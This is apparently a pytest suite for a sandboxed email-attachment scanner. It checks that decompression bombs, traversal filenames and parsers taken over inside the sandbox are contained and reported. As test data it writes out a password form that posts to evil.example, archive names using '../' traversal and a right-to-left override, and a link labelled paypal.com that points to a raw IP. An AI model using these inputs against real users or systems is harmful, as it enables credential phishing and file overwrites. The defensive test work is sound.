"""Files built to stop whoever reads them: each costs its own turn, is told, and what comes after it is examined."""

import base64
import os
import time
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from random import Random

import pytest

import daemon.sandbox.examiner as examiner_module
from daemon.sandbox import Examiner
from mailflows.examine.archives import looks as archives
from mailflows.examine.files import looks as files
from mailflows.examine.finding import Finding, Group, Severity
from mailflows.examine.limits import REASONS
from mailflows.examine.opener import LARGEST
from mailflows.examine.seen import Part, Saw
from mailflows.examine.turn import take_turn
from mailflows.examine.verdict import Word, verdict
from mailflows.letter import Examined
from tests.exhibits import mail, part, zipped_as
from tests.exhibits.archives import cabinet, nested_zip, old_rar, packed, rar, tarred
from tests.exhibits.bombs import BOMBS
from tests.exhibits.files import gif, jpeg, linux_program, mac_program, png, windows_program

pytestmark = pytest.mark.sandbox

ROOT = Path(__file__).resolve().parents[3]
NEXT = part(windows_program(), "application/octet-stream", "next.exe")


@pytest.fixture(scope="module")
def examiner() -> Iterator[Examiner]:
    running = Examiner.started()
    yield running
    running.close()


@pytest.fixture(scope="module")
def betrayed() -> Iterator[Examiner]:
    """A sandbox in which a file may take over the child that reads it."""
    names = ["__init__.py", "mailflows/__init__.py", "mailflows/examine/__init__.py", "mailflows/examine/turncoat.py"]
    running = Examiner.started(["tests.mailflows.examine.turncoat"], [ROOT / "tests" / name for name in names])
    yield running
    running.close()


def with_the_next(name: str, content: bytes) -> bytes:
    """A mail with the hostile file, and an honest unsigned program behind it."""
    return mail("look", part(content, "application/octet-stream", name), NEXT)


def next_was_examined(examined: Examined) -> bool:
    return any(finding.path == "mail/3" and finding.look == "F17" for finding in examined.findings)


def covered(findings: tuple[Finding, ...] | list[Finding], path: str = "mail/2") -> list[str]:
    """What was told of the file that could not be looked into."""
    return [one.evidence for one in findings if one.group is Group.COVERAGE and one.path == path and one.weight]


# What is told of them: a limit, or a trick. For the others it is enough that they hurt nobody: they may be read whole.
TOLD = {
    "300 MB of zeros in a zip": "F25",
    "100 MB of zeros in a gz": "F25",
    "100 MB of zeros in a tar.gz": "F25",
    "zeros in a 7z": "F25",
    "a zip of zips of zips": "F25",
    "overlapping members of 27 GB": "F11",
    "60,000 members": "F25",
    "names that hurt": "F11",
    "a picture of 900 megapixels": "F25",
    "an OLE file in a circle": "F25",
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_file_built_to_stop_its_reader_costs_its_own_turn(examiner: Examiner, name: str) -> None:
    file, made = BOMBS[name]
    raw = with_the_next(file, made())
    began = time.monotonic()
    examined = examiner.examine(raw)
    assert time.monotonic() - began < 40
    assert examined.unread is None and examined.letter.text == "look"
    assert next_was_examined(examined), examined.findings
    assert len(covered(examined.findings)) <= 1, "told more than once"
    if name in TOLD:
        assert [one for one in examined.findings if one.look == TOLD[name] and one.weight], examined.findings


@pytest.mark.parametrize("deed", ["abort", "eat", "exit", "fork", "fill", "lie", "recurse"])
def test_a_parser_that_was_taken_over_costs_one_object(betrayed: Examiner, deed: str) -> None:
    examined = betrayed.examine(with_the_next(f"{deed}.pdf", b"%PDF-1.7"))
    assert len(covered(examined.findings)) == 1 and next_was_examined(examined)
    assert verdict(examined.findings, examined.evidence, examined.unread).word is not Word.NOTHING_FOUND
    assert betrayed.examine(mail("the next one")).letter.text == "the next one"


def test_a_parser_that_hangs_costs_its_time_and_no_more(betrayed: Examiner) -> None:
    began = time.monotonic()
    examined = betrayed.examine(with_the_next("hang.pdf", b"%PDF-1.7"))
    assert len(covered(examined.findings)) == 1 and next_was_examined(examined)
    assert time.monotonic() - began < 30


def test_a_member_that_takes_over_its_parser_costs_one_member(betrayed: Examiner) -> None:
    archive = nested_zip(1, b"x").replace(b"a.txt", b"exit.")
    examined = betrayed.examine(with_the_next("a.zip", archive))
    assert len(covered(examined.findings, "mail/2/in/1")) == 1 and next_was_examined(examined)


def test_nothing_is_written_anywhere_while_archives_are_opened(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """In this process, where it could be: every call that opens a file is watched."""
    monkeypatch.chdir(tmp_path)
    opened: list[str] = []
    watched = os.open

    def watch(path: str, *arguments: int) -> int:
        opened.append(str(path))
        return watched(path, *arguments)

    monkeypatch.setattr(os, "open", watch)
    for name in ("names that hurt", "a zip of zips of zips", "zeros in a 7z"):
        raw = with_the_next(BOMBS[name][0], BOMBS[name][1]())
        for path in ("mail", "mail/2", "mail/2/in/1"):
            take_turn(raw, path)
    assert not opened and not list(tmp_path.iterdir())


def test_names_that_hurt_are_shown_so_that_they_do_not() -> None:
    raw = with_the_next("../../\u202eetc", BOMBS["names that hurt"][1]())
    findings = [one for path in ("mail", "mail/2", "mail/2/in/2") for one in take_turn(raw, path).findings]
    assert findings
    for one in findings:
        assert one.evidence.isprintable() and len(one.evidence) <= 200 and "\u202e" not in one.evidence


WHOLE = {
    "a.zip": packed("zip", {"a.txt": b"hello" * 50, "b/c.js": b"x" * 300}, password="infected", lock="aes256"),
    "b.zip": nested_zip(2, b"hello"),
    "a.7z": packed("7zip", {"a.txt": b"hello" * 50}),
    "a.rar": rar({"a.txt": b"hello", "b.txt": b"x"}, ["..\\x"], locked=True),
    "b.rar": old_rar("a.txt", ":x", locked=True),
    "a.tar": tarred({"a.txt": b"hello"}, {"b": "../c", "d": "=a.txt"}),
    "a.iso": packed("iso9660", {"a.txt": b"hello"}),
    "a.cab": cabinet("a.txt", b"hello"),
    "a.png": png(behind=b"PK\x03\x04" + bytes(40)),
    "a.jpg": jpeg(behind=b"MZ" + bytes(40)),
    "a.gif": gif(b"hello"),
    "a.elf": linux_program(),
    "a.macho": mac_program(signed=True),
}


@pytest.mark.parametrize("name", WHOLE)
def test_no_small_damage_stops_a_look(name: str) -> None:
    """A hundred damages each, the same in every run: what is broken is told in words, and no look breaks over it."""
    chance = Random(name)
    asked = files.OF_FILES + archives.OF_INSIDES + tuple(look for look in files.OF_INSIDES if look.id in ("F02", "F17"))
    for _ in range(100):
        damaged = bytearray(WHOLE[name])
        for _ in range(chance.choice((1, 2, 5, 20))):
            damaged[chance.randrange(min(len(damaged), chance.choice((64, 512, 1 << 20))))] = chance.randrange(256)
        content = bytes(damaged[: chance.choice((len(damaged), chance.randrange(len(damaged))))])
        whole = Part(2, "application/octet-stream", None, (name,), attached=True, content=content, forwarded=False)
        for look in asked:
            ask: Callable[..., Iterable[Saw]] = look.ask
            list(ask(whole))
        for opener in archives.OPENERS:
            if opener.fits(whole):
                assert all(len(member.read()) <= LARGEST for member in opener.members(whole))


def test_the_same_hostile_bytes_give_the_same_findings() -> None:
    for name in ("names that hurt", "a RAR that lies", "an OLE file in a circle", "overlapping members of 27 GB"):
        raw = with_the_next(BOMBS[name][0], BOMBS[name][1]())
        assert take_turn(raw, "mail/2") == take_turn(raw, "mail/2")


ORDER = {"order.exe": windows_program()}


@pytest.mark.parametrize(
    "content",
    [
        packed("zip", ORDER, password="infected", lock="aes256"),
        packed("zip", ORDER, password="infected"),
        packed("7zip", ORDER),
        packed("xar", ORDER),
        packed("iso9660", ORDER),
        packed("gnutar", ORDER, "zstd"),
        packed("gnutar", ORDER, "xz"),
        packed("gnutar", ORDER, "bzip2"),
        rar(ORDER),
        cabinet("order.exe", ORDER["order.exe"]),
    ],
    ids=["zip AES", "zip", "7z", "xar", "iso", "zst", "xz", "bz2", "rar", "cab"],
)
def test_archives_are_opened_behind_the_walls(examiner: Examiner, content: bytes) -> None:
    """Where no other program can be started, no file written and no thread begun."""
    examined = examiner.examine(with_the_next("a.archive", content))
    inside = {one.look for one in examined.findings if one.path.startswith("mail/2/in/")}
    assert {"F16", "F17"} <= inside and next_was_examined(examined)


def test_a_dangerous_file_is_packed_behind_the_walls(examiner: Examiner) -> None:
    whole = examiner.packed(mail("look", part(ORDER["order.exe"], "application/x", "../order.exe")), "mail/2")
    assert whole and b"order.exe.bin" in whole and ORDER["order.exe"] not in whole


FORM = b"<form action='https://evil.example/p'><input type=password name=p></form>"


@pytest.mark.parametrize("open_tag", [b"<div>", b"<b>", b"<table><td>", b"<svg><g>", b"<a>"])
def test_a_form_below_a_thousand_elements_is_seen_where_a_browser_shows_it(open_tag: bytes) -> None:
    turn = take_turn(mail("look", part(b"<html>" + open_tag * 2_000 + FORM, "text/html", "login.html")), "mail/2")
    assert any(one.look == "F10" and one.severity is Severity.HIGH for one in turn.findings)


def test_a_page_that_is_too_long_to_be_read_is_told() -> None:
    long = b"<html>" + b"<p>good morning</p>" * 80_000
    told = take_turn(mail("look", part(long + FORM, "text/html", "login.html")), "mail/2").findings
    assert any("not read to its end" in one for one in covered(told))
    drawn = b"<html><img src='data:image/png;base64," + b"iVBORw0KGgo" * 200_000 + b"'>"
    told = take_turn(mail("look", part(drawn + FORM, "text/html", "login.html")), "mail/2").findings
    assert not covered(told) and any(one.look == "F10" and one.weight > 4 for one in told)


@pytest.mark.parametrize("before", [b"<p>good morning</p>" * 80_000, b"<a href='https://example.org/'></a>" * 600])
def test_a_mail_that_hides_its_link_behind_a_thousand_others_is_told(before: bytes) -> None:
    page = base64.encodebytes(b"<html>" + before + b"<a href='http://203.0.113.9/'>paypal.com</a>")
    head = b"From: a@x.example\r\nContent-Type: text/html\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    assert "its text or its links are more than is read" in covered(
        take_turn(head + page, "suspect").findings, "suspect"
    )
    short = b"From: a@x.example\r\nContent-Type: text/html\r\n\r\n<a href='https://example.org/'>x</a>"
    assert not covered(take_turn(short, "suspect").findings, "suspect")


def test_what_is_packed_too_deep_is_told() -> None:
    packed_up = zipped_as({"x.exe": windows_program()})
    for level in range(5):
        packed_up = zipped_as({f"{level}.zip": packed_up})
    raw = mail("look", part(packed_up, "application/zip", "a.zip"))
    path, told = "mail/2", []
    while True:
        turn = take_turn(raw, path)
        told += covered(turn.findings, path)
        if not turn.further:
            break
        (path,) = turn.further
    assert path.count("/in/") == 4 and told == ["what lies in it is packed too deep to be taken out"]


def test_a_mail_in_a_mail_in_a_mail_too_deep_is_told() -> None:
    raw = mail("see", part(windows_program(), "application/octet-stream", "x.exe"))
    for _ in range(7):
        raw = mail("see", part(raw, "message/rfc822", "fwd.eml"))
    path, told = "mail", []
    for _ in range(7):
        turn = take_turn(raw, path)
        told += covered(turn.findings, path)
        path = f"{path}/2"
        if path not in turn.further:
            break
    assert path == "mail/2/2/2/2/2" and told == ["the mails in it lie too deep to be taken out"]


def test_the_sixteenth_file_of_an_invitation_is_told() -> None:
    line = b"ATTACH;ENCODING=BASE64;VALUE=BINARY;FILENAME=%d.txt:" + base64.b64encode(b"MZ" + bytes(99)) + b"\r\n"
    lines = b"".join(line % number for number in range(20))
    invitation = b"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n" + lines + b"END:VEVENT\r\nEND:VCALENDAR\r\n"
    turn = take_turn(mail("look", part(invitation, "text/calendar", "a.ics")), "mail/2")
    assert len(turn.further) == 15 and len(covered(turn.findings)) == 1


def test_who_was_sent_a_page_that_stops_its_reader_is_answered_all_the_same(
    betrayed: Examiner, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(examiner_module, "SLOW", 2.8)  # they may compute for 3 s, and this page takes minutes
    page = base64.encodebytes(b"<a " + b" ".join(b"a%d=1" % number for number in range(100_000)) + b">look</a>")
    raw = (
        b"From: samira@press.example\r\nSubject: Fwd: look\r\nMIME-Version: 1.0\r\n"
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        b"--b\r\nContent-Type: multipart/alternative; boundary=a\r\n\r\n"
        b"--a\r\nContent-Type: text/plain\r\n\r\nis this real?\r\n--a\r\nContent-Type: text/html\r\n"
        b"Content-Transfer-Encoding: base64\r\n\r\n" + page + b"\r\n--a--\r\n--b\r\n"
        b"Content-Disposition: attachment; filename=x.exe\r\n\r\nMZ" + b"x" * 200 + b"\r\n--b--\r\n"
    )
    examined = betrayed.examine(raw)
    assert examined.unread is None and examined.letter.text.strip() == "is this real?"
    assert [box.address for box in examined.letter.senders] == ["samira@press.example"]
    assert covered(examined.findings, "mail") == [REASONS["timeout"]]
    assert examined.letter.attachments[0].name == "x.exe"
    assert any(one.look == "F16" for one in examined.findings)
